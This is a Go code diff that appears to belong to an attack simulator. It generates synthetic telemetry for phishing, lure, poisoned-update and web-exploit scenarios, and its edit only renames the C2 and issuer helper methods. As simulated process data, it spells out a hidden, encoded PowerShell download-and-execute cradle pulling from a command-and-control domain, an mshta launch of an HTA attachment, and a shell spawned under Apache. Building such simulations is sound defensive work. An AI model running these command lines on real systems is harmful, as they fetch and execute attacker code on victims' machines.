@@ -260,7 +260,7 @@ func phish(a *Attempt) Progress {
 		w.CreateFile(a.Now, a.Actor, outlook, `C:\Users\`+victim.Name+`\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8K2LQ0\Invoice.hta`)
 		launcher = w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Mshta, CommandLine: `"C:\Windows\System32\mshta.exe" "C:\Users\` + victim.Name + `\AppData\Local\Temp\OneNote\Invoice.hta"`, Parent: outlook})
 	}
-	script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/u')", a.c2().Domain)
+	script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/u')", a.C2().Domain)
 	shell := w.StartProcess(a.Now+8*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.PowerShell, CommandLine: `powershell.exe -nop -w hidden -enc ` + encoded(script), Parent: launcher})
 	w.RunScript(a.Now+9*time.Second, a.Actor, shell, script)
 	return a.phished(shell, victim)
@@ -268,14 +268,14 @@ func phish(a *Attempt) Progress {
 
 // phished lets what the victim started call home and leave an implant.
 func (a *Attempt) phished(p *world.Process, victim *world.Account) Progress {
-	w, h, c2 := a.World, p.Host, a.c2()
+	w, h, c2 := a.World, p.Host, a.C2()
 	w.Resolve(a.Now+9*time.Second, a.Actor, h, p, c2.Domain, "A", c2.Address)
 	a.Hostile.MarkHost(h.Name)
 	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
 		return blocked(r)
 	}
 	w.Flow(a.Now+10*time.Second, a.Actor, world.Flow{From: world.At(h), To: c2, Port: 443, Service: "ssl", Process: p, Sent: 2e3, Received: 400e3, Duration: 3 * time.Second})
-	w.TLS(a.Now+10*time.Second, a.Actor, world.At(h), c2, 443, c2.Domain, a.Hello, a.issuer(c2), "CN="+c2.Domain, a.PublicCertificate)
+	w.TLS(a.Now+10*time.Second, a.Actor, world.At(h), c2, 443, c2.Domain, a.Hello, a.Issuer(c2), "CN="+c2.Domain, a.PublicCertificate)
 	a.Now += 15 * time.Second
 	a.implant(h, victim, nil, 0, "Medium")
 	return success("%s opened the attachment at %s", victim.Name, h.Name)
@@ -293,7 +293,7 @@ func lure(a *Attempt, mailed bool) Progress {
 	if victim == nil {
 		return failure("nobody left to lure")
 	}
-	h, c2 := victim.Home, a.c2()
+	h, c2 := victim.Home, a.C2()
 	browser := h.Program(world.Chrome, `"`+world.Chrome.Path+`"`, victim)
 	w.Resolve(a.Now, a.Actor, h, browser, c2.Domain, "A", c2.Address)
 	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
@@ -350,7 +350,7 @@ func poisonUpdate(a *Attempt) Progress {
 	if len(windows) == 0 || a.failed {
 		return failure("the product is not installed")
 	}
-	h, c2 := sim.Pick(&a.Rand, windows), a.c2()
+	h, c2 := sim.Pick(&a.Rand, windows), a.C2()
 	a.Target = h
 	a.Hostile.MarkHost(h.Name)
 	p := w.StartProcess(a.Now, a.Actor, world.Start{Host: h, Binary: world.Updater, CommandLine: `"` + world.Updater.Path + `" /silent`, Integrity: "System"})
@@ -411,7 +411,7 @@ func exploitWeb(a *Attempt) Progress {
 	}
 	parent := h.System(world.Apache, "/usr/sbin/apache2 -k start")
 	w.StartProcess(a.Now+time.Second, a.Actor, world.Start{Host: h, Binary: world.Bash, CommandLine: "sh -c id", Parent: parent})
-	c2 := a.c2()
+	c2 := a.C2()
 	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
 		return blocked(r)
 	}
